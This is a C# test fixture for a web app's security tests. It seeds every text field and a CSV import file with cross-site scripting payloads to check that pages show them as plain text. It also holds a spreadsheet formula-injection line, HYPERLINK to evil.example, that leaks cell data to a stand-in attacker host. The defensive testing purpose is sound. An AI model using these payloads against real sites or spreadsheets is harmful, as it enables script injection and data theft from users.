using System.Text;
using TotalPlace.Core.Places;
using TotalPlace.Core.Spending;
using TotalPlace.Storage;
using TotalPlace.Web.Tests.Infrastructure;

namespace TotalPlace.Web.Tests.Security;

/// <summary>The real app (Local mode, real Kestrel, Chromium) over a store whose every text field holds markup and
/// script: the agency, the theme, the supplier, the expense area and type (the description fields), the file name
/// and the user who imported it. Anything a page or chart renders from data must show these as text.</summary>
public sealed class HostileDataAppFixture : WebAppFixture
{
    /// <summary>Every payload carries the attribute <c>data-xss</c>, so an injected element can be found in the page.</summary>
    public static readonly IReadOnlyList<string> Payloads =
    [
        "<img src=x data-xss=1 onerror=alert(1)>",
        "\"><svg data-xss=2 onload=alert(2)>",
        "'><script data-xss=3>alert(3)</script>",
        "</script><iframe data-xss=4 src=javascript:alert(4)>",
        "<b data-xss=5 onmouseover=alert(5)>hover</b>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    ];

    public static readonly string HostileAgency = "Agency " + Payloads[0];

    public static readonly string HostileThemeCode = "xss-theme";

    public static readonly string HostileThemeName = "Theme " + Payloads[1];

    public static readonly string HostileFileName = Payloads[2] + ".csv";

    public static readonly string HostileUser = "user " + Payloads[3];

    public ImportBatch HostileBatch { get; private set; } = null!;

    protected override async Task SeedAsync()
    {
        await base.SeedAsync();
        var store = Store;
        await store.Places.AddThemeAsync(new Theme(HostileThemeCode, HostileThemeName));
        await store.Places.AddRuleAsync(PlaceCode, new ClassificationRule(ClassificationField.ExpenseType, ClassificationMatch.Contains, "data-xss", HostileThemeCode));
        await store.Places.EnsureAgencyAsync(PlaceCode, new Agency(HostileAgency, AgencyKind.Other, FundingSource.Unknown));
        HostileBatch = (await SampleFiles.CommitAsync(store, PlaceCode, HostileAgency, HostileFileName, HostileFile(), HostileUser)).Batch;
    }

    /// <summary>A spend file in the Devon layout whose text cells are payloads, one line per payload; the formula
    /// payload is the whole supplier name, as a spreadsheet would see it.</summary>
    private static byte[] HostileFile()
    {
        var csv = new StringBuilder("Body,Name of Body,Date,Transaction number,Amount,Supplier name,Supplier ID,VAT reg no,Expense area,Expense type,Expense code,Creditor type\r\n");
        for (var i = 0; i < Payloads.Count; i++)
        {
            var payload = Quote(Payloads[i]);
            csv.Append($"18,{Quote(HostileAgency)},{10 + i}/05/2025,{Quote("REF" + Payloads[i])},{1000 + i}.25,{Quote(Payloads[i].StartsWith('=') ? Payloads[i] : "Supplier " + Payloads[i])},{i},,{Quote("Area " + Payloads[i])},{Quote("Type " + Payloads[i])},X{i},{payload}\r\n");
        }

        return Encoding.UTF8.GetBytes(csv.ToString());
    }

    private static string Quote(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
}
